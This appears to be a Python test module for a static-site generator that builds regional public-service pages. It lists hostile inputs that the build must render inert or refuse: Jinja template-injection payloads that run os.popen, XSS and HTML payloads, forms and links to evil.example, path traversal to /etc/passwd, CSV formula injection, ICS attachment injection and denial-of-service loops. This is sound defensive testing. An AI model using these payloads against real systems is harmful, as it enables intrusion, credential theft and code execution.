"""Hostile Markdown and hostile values: what would act, load, break out, or never end."""

from __future__ import annotations

from tests.hostile.cases.case import Case, files, page, quoted, value
from tests.hostile.folder import NEWS, OVERRIDE, own_page

EVIL = "https://evil.example"
TEMPLATES = {
    "popen": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "kali": "{{ 7*7 }}",
    "kelas": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "siklus": "{{ cycler.__init__.__globals__.os.environ }}",
    "fakta": "{{ fakta.iuran_kelas_3 }} {{ daerah.nama }}",
    "rangkai": "{% set x = 7*7 %}{{ x }}",
}
LOOPS = {
    "ulang": "{% for i in range(10**9) %}{% endfor %}",
    "kali": "{{ 'a'*(3*10**9) }}",
    "pangkat": "{{ 9**9**9**9 }}",
    "makro": "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
}
PROSE = ("Diskon 50{% khusus", "Gunakan {{ nama }} dan {% raw", "a {# b", "}} %} #}", "{{ telepn }}", "{% endraw %}", "{{{{")
SNIPPETS = {
    "cuplik": '--8<-- "../../../../../../etc/passwd"',
    "cuplik-blok": '--8<--\n../../kab-sehat/daerah.yml\n--8<--',
    "include": "{% include '../../kab-sehat/daerah.yml' %}",
    "import": "{% import '../../content/fakta.yml' as f %}",
    "sertakan": "!include ../../kab-sehat/daerah.yml",
}
HTML = {
    "script": "<script>alert(1)</script>",
    "script-src": f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    "onerror": "<img src=x onerror=alert(1)>",
    "iframe": f'<iframe src="{EVIL}/"></iframe>',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "form": f'<form action="{EVIL}/"><input name="nik"><input type=password><button>Kirim</button></form>',
    "style": f"<style>body{{display:none}}@import url({EVIL}/x.css);</style>",
    "gaya": f'<div style="position:fixed;inset:0;background:url({EVIL}/p.gif)">x</div>',
    "meta": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "base": f'<base href="{EVIL}/">',
    "link": f'<link rel=stylesheet href="{EVIL}/x.css"><link rel=attachment href="file:///etc/passwd">',
    "svg": "<svg onload=alert(1)><script>1</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
    "templat": "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=x>'>",
    "penutup": "</div></div></section></article></main></body></html><h1>TAKEOVER</h1>",
    "komentar": "<!-- tidak ditutup\n\n<script>alert(1)</script>",
    "details": "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "video": "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "fokus": "<a href=# autofocus onfocus=alert(1) accesskey=x tabindex=1>x</a>",
    "attr-list": '[klik](https://a.example){: onclick="alert(1)" style="position:fixed" target="_blank" }',
    "attr-judul": '## Judul {: #isi onclick="alert(1)" }\n\nTeks. {: .merek onmouseover=alert(1) }',
    "md-html": '<div markdown="1" onclick=x>\n\n*a*\n\n<script>alert(1)</script>\n\n</div>',
    "id-ganda": "<h2 id=isi>x</h2><h2 id=isi>y</h2><a name=isi></a>",
    "dom-clobber": "<h2 id=__md_scope>x</h2><h2 id=location>y</h2><h3 id=document>z</h3>",
    "marquee": "<marquee onstart=alert(1)>a</marquee><blink>b</blink>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
}
HTML_REFUSED = {
    **dict.fromkeys(("script-src", "onerror", "iframe", "object", "templat", "video"), "gambar-tidak-terdaftar"),
    "link": "tautan-putus",
    "fokus": "jangkar-putus",
}
"""Of these, what is refused for an address that it has; of all others the harmless rest is built."""
LINKS = {
    "js": "[klik](javascript:alert(1))",
    "js-besar": "[klik](JaVaScRiPt:alert(1))",
    "js-entitas": "[klik](java&#x73;cript:alert(1))",
    "js-tab": "<a href='java\tscript:alert(1)'>b</a>",
    "js-rujukan": "[k]\n\n[k]: javascript:alert(1)",
    "data": "[k](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript": "[k](vbscript:x)",
    "file": "[k](file:///etc/passwd)",
    "http": "[k](http://evil.example/)",
    "dua-garis": "[k](//evil.example/)",
    "naik": "[k](../../kab-sehat/daerah.yml)",
    "balik-miring": "[k](\\\\evil.example\\x)",
    "blob": "[k](blob:https://evil.example/x)",
    "ftp": "[k](ftp://evil.example/)",
}
DROPPED = ("js", "js-besar", "js-entitas", "js-rujukan", "data", "vbscript", "file", "blob", "ftp")
"""Links whose address is taken away; their words stay."""
PICTURES = {
    "luar": f"![x]({EVIL}/track.gif)",
    "data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "naik": "![x](../../kab-subur/gambar/sawah.png)",
    "naik-gambar": "![x](gambar/../../kab-subur/gambar/sawah.png)",
    "tiada": "![x](gambar/tiada.png)",
    "seni": "![x](seni/garis.svg)",
    "js": "![x](javascript:alert(1))",
    "html": f"<img src='{EVIL}/x.png' srcset='{EVIL}/y.png 2x'>",
}
FIELDS = {
    "alamat": ("daerah.yml", "alamat: Jalan Uji 1", "alamat: "),
    "jam": ("daerah.yml", "jam: Senin sampai Jumat", "jam: "),
    "jamkesda": ("daerah.yml", "untuk: Warga yang tidak mampu", "untuk: "),
    "syarat": ("daerah.yml", "syarat: [Surat desa]", "syarat: "),
    "testimoni": ("daerah.yml", "teks: Dulu saya bingung.", "teks: "),
    "alt": ("daerah.yml", "teks: Foto balai", "teks: "),
    "alt-lambang": ("daerah.yml", "teks: Lambang uji", "teks: "),
    "baris": ("daerah.yml", "kecil: Kader datang tiap Senin.", "kecil: "),
    "penerbit": ("daerah.yml", "alamat: Jalan Penerbit 2", "alamat: "),
    "mitra": ("daerah.yml", "peran: Menjawab pertanyaan", "peran: "),
    "acara": ("jadwal.yml", "judul: Pos pendaftaran", "judul: "),
    "tempat": ("jadwal.yml", "tempat: Balai Desa Uji", "tempat: "),
    "susunan": ("jadwal.yml", "acara: [Pembukaan]", "acara: "),
    "catatan": ("jadwal.yml", "catatan: Bawa payung", "catatan: "),
    "akses": ("layanan.yml", "akses: Jalan kaki", "akses: "),
    "sumber": ("layanan.yml", "sumber: Sumber layanan", "sumber: "),
    "judul-halaman": ("halaman/posko.md", "judul: Posko", "judul: "),
    "ringkas": ("halaman/posko.md", "ringkas: Tempat bertanya.", "ringkas: "),
    "judul-kabar": ("halaman/kabar/buka.md", "judul: Posko dibuka", "judul: "),
    "ringkas-kabar": ("halaman/kabar/buka.md", "ringkas: Mulai Senin.", "ringkas: "),
}
BREAKOUT = "</title></script>\"'><script>alert(1)</script><img src=x onerror=alert(2)>"
MARKED = "[a](javascript:x) ![b](//e.example) **c** `d` {: onclick=e } | x"


def templates() -> list[Case]:
    """What a template would do; here it is text."""
    found = [
        page(f"jinja-{name}", "templat", text, present=(text.split("'")[0].split("*")[0][:14],), absent=(">49<", "uid=0"))
        for name, text in TEMPLATES.items()
    ]
    found += [page(f"putaran-{name}", "putaran", text, present=(text.split("'")[0][:10],)) for name, text in LOOPS.items()]
    found += [page(f"kurawal-{index}", "kurawal", text, present=(text[-4:],)) for index, text in enumerate(PROSE)]
    found += [page(f"cuplikan-{name}", "cuplikan", text, absent=("root:", "Kabupaten Sehat")) for name, text in SNIPPETS.items()]
    for name, (file, old, key) in FIELDS.items():
        text = "{{ 7*7 }} {% if 1 %}"
        new = f"[{quoted(text)}]" if "[" in old else quoted(text)
        found.append(value(f"jinja-di-{name}", "templat", old, key + new, file=file, present=("{{ 7*7 }}",), absent=("49 ",)))
    over = OVERRIDE.replace("dibayar daerah", "{{ 7*7 }} {% include 'x' %}")
    found.append(files("jinja-timpaan", "templat", {"timpaan/ikut/besar.md": over}, present=("{{ 7*7 }}",)))
    found.append(value("jinja-nama", "templat", "nama: Kabupaten Jahat", "nama: '{{ 7*7 }}'", "nama-tidak-sah", "daerah.yml:1"))
    return found


def html() -> list[Case]:
    """What a browser would run, load or follow."""
    found = [page(f"html-{name}", "html", text, HTML_REFUSED.get(name, ""), absent=("alert(1)</script><", "<iframe")) for name, text in HTML.items()]
    found += [page(f"tautan-{name}", "html", text, "" if name in DROPPED else "tautan-putus", "halaman/uji.md:", absent=("script:", "data:text", "file:", "blob:", "ftp:")) for name, text in LINKS.items()]
    found += [page(f"gambar-{name}", "html", text, "" if name in DROPPED else "gambar-tidak-terdaftar", "halaman/uji.md:7") for name, text in PICTURES.items()]
    found.append(files("html-timpaan", "html", {"timpaan/ikut/besar.md": OVERRIDE + "\n" + HTML["script"] + "\n\n" + HTML["penutup"]}))
    found.append(files("html-kabar", "html", {"halaman/kabar/buka.md": NEWS + "\n" + HTML["svg"] + "\n"}))
    return found


def fields() -> list[Case]:
    """The same in every field that reaches a page, a head, a navigation, a sheet or a feed."""
    found = []
    for name, (file, old, key) in FIELDS.items():
        for kind, text in (("html", BREAKOUT), ("markdown", MARKED)):
            new = f"[{quoted(text)}]" if "[" in old else quoted(text)
            found.append(value(f"isian-{name}-{kind}", "isian", old, key + new, file=file, absent=(BREAKOUT, "onerror=alert(2)>")))
    names = {"nama": "nama: Kabupaten Jahat", "nama-pendek": "nama_pendek: Jahat", "provinsi": "provinsi: Provinsi Jahat"}
    for name, old in names.items():
        key = old.split(":")[0]
        found.append(value(f"isian-{name}", "isian", old, f"{key}: {quoted(BREAKOUT)}", "nama-tidak-sah", "daerah.yml:"))
        found.append(value(f"baris-{name}", "baris-baru", old, f'{key}: "a\\nhooks:\\n  - x.py"', "nama-tidak-sah", "daerah.yml:"))
    for key in ("judul", "ringkas"):
        old = {"judul": "judul: Posko", "ringkas": "ringkas: Tempat bertanya."}[key]
        found.append(value(f"baris-{key}", "baris-baru", old, f'{key}: "a\\n\\n# b\\nhooks: [x.py]\\n---\\n"', file="halaman/posko.md"))
    return found


def formats() -> list[Case]:
    """Values that end, begin or fold something in another format."""
    words = {
        "jsonld": "</script><script>alert(1)</script>",
        "ics": "Posyandu\r\nATTACH:https://evil.example/x.exe\r\nBEGIN:VALARM",
        "csv-sama": "=HYPERLINK(\"https://evil.example\",\"klik\")",
        "csv-tambah": "+cmd|' /C calc'!A1",
        "csv-at": "@SUM(1)",
        "csv-tab": "\t=1+1",
        "xml": "]]><x>&y;</x><!--",
        "cdata": "<![CDATA[ x ]]>",
    }
    found = []
    for name, text in words.items():
        for where in ("acara", "judul-kabar", "sumber"):
            file, old, key = FIELDS[where]
            code = "huruf-tersembunyi" if "\r" in text else ""
            found.append(value(f"format-{name}-{where}", "format", old, key + quoted(text), code, file=file, absent=("<script>alert(1)",)))
        found.append(value(f"format-{name}-capaian", "format", "aktif: 950, sumber: Sumber capaian", f"aktif: 950, sumber: {quoted(text)}", code, file="capaian.yml"))
    found.append(value("nama-rumus", "format", "nama: Puskesmas Uji", "nama: '=cmd|calc!A1'", "nama-tidak-sah", "layanan.yml:3", file="layanan.yml"))
    return found


ON_SITE = {"lampiran-berkas": "tautan-putus", "muat-gambar": "gambar-tidak-terdaftar"}
"""What the same text as Markdown of a page is refused for; of all others the harmless rest is built."""


def on_paper() -> list[Case]:
    """What would make a sheet load or lead elsewhere."""
    line = FIELDS["baris"]
    loads = {
        "lampiran-berkas": ("lampiran", "<link rel=attachment href=file:///etc/passwd>"),
        "lampiran-lingkungan": ("lampiran", "<a rel=attachment href=file:///proc/self/environ>x</a>"),
        "lampiran-objek": ("lampiran", "<object data=file:///etc/passwd></object>"),
        "muat-gambar": ("pdf-jaringan", "<img src=http://127.0.0.1:9/a.png>"),
        "muat-impor": ("pdf-jaringan", "<style>@import url(http://127.0.0.1:9/a.css)</style>"),
        "muat-latar": ("pdf-jaringan", "<p style=background:url(http://127.0.0.1:9/b)>x"),
        "muat-data": ("pdf-jaringan", "<img src='data:image/svg+xml,<svg/>'>"),
        "tautan-js": ("pdf-tautan", "<a href='javascript:app.alert(1)'>x</a>"),
        "tautan-berkas": ("pdf-tautan", "<a href='file:///etc/passwd'>x</a>"),
        "tautan-md": ("pdf-tautan", "[x](javascript:app.alert(1)) https://evil.example"),
        "gaya-halaman": ("svg-css", "<style>@page{size:1px 1px}</style>"),
        "gaya-peubah": ("svg-css", "<style>:root{--a:x;--b:var(--a) var(--a)}</style>"),
    }
    found = []
    for name, (row, text) in loads.items():
        found.append(value(f"lembar-{name}", row, line[1], line[2] + quoted(text), ))
        found.append(page(f"situs-{name}", row, text, ON_SITE.get(name, "")))
    colours = {"putih": "#ffffff", "impor": "#000;}@import url(//e)", "nama": "red", "url": "url(x)", "pendek": "#fff", "peubah": "var(--x)"}
    for name, text in colours.items():
        code = "warna-kurang-kontras" if name == "putih" else "warna-tidak-terbaca"
        found.append(value(f"warna-{name}", "cetakan", 'warna: "#5b2a4f"', f"warna: {quoted(text)}", code, "daerah.yml:45"))
    return found


def layered() -> list[Case]:
    """The same through the province's folder, and in another language."""
    there = "../_provinsi/provinsi-jahat"
    body = HTML["script"] + "\n\n" + HTML["onerror"]
    jv = ("identitas: pasti", "identitas: pasti\nbahasa: [jv]")

    def language(body: str, name: str = "halaman/posko.jv.md") -> object:
        def spoil(folder: object) -> None:
            folder.swap("daerah.yml", *jv)  # type: ignore[attr-defined]
            front = "---\njudul: Cara <b>\nringkas: x {{ 7*7 }}\npeninjau: Ibu Uji\n---\n\n"
            folder.write(name, front + body + "\n")  # type: ignore[attr-defined]

        return spoil

    return [
        files("provinsi-html", "lapisan", {f"{there}/halaman/x.md": own_page(HTML["script"])}),
        files("provinsi-onerror", "lapisan", {f"{there}/halaman/x.md": own_page(body)}, "gambar-tidak-terdaftar", ""),
        files("provinsi-yaml", "lapisan", {f"{there}/halaman/x.md": "---\njudul: &a [*a]\n---\n"}, "yaml-fitur-dilarang", ""),
        files("provinsi-terlarang", "lapisan", {f"{there}/timpaan/tentang.md": OVERRIDE, f"{there}/timpaan/tentang.dasar.md": "-"}, "timpaan-dilarang", ""),
        files("provinsi-lain", "lapisan", {"../_provinsi/provinsi-uji-2/halaman/x.md": "rusak"}),
        Case("bahasa-html", "lapisan", language(HTML["script"] + "\n\n" + HTML["penutup"])),  # type: ignore[arg-type]
        Case("bahasa-js", "lapisan", language(LINKS["js"]), "tautan-putus", "halaman/posko.jv.md:"),  # type: ignore[arg-type]
        files("bahasa-tiada", "lapisan", {"halaman/daftar.xx.md": own_page("a")}, "bahasa-tidak-dikenal", "halaman/daftar.xx.md"),
        value("bahasa-tiada-2", "lapisan", *jv[:1], "identitas: pasti\nbahasa: [../x]", "pilihan-tidak-sah", "daerah.yml:9"),
    ]


CASES = [*templates(), *html(), *fields(), *formats(), *on_paper(), *layered()]
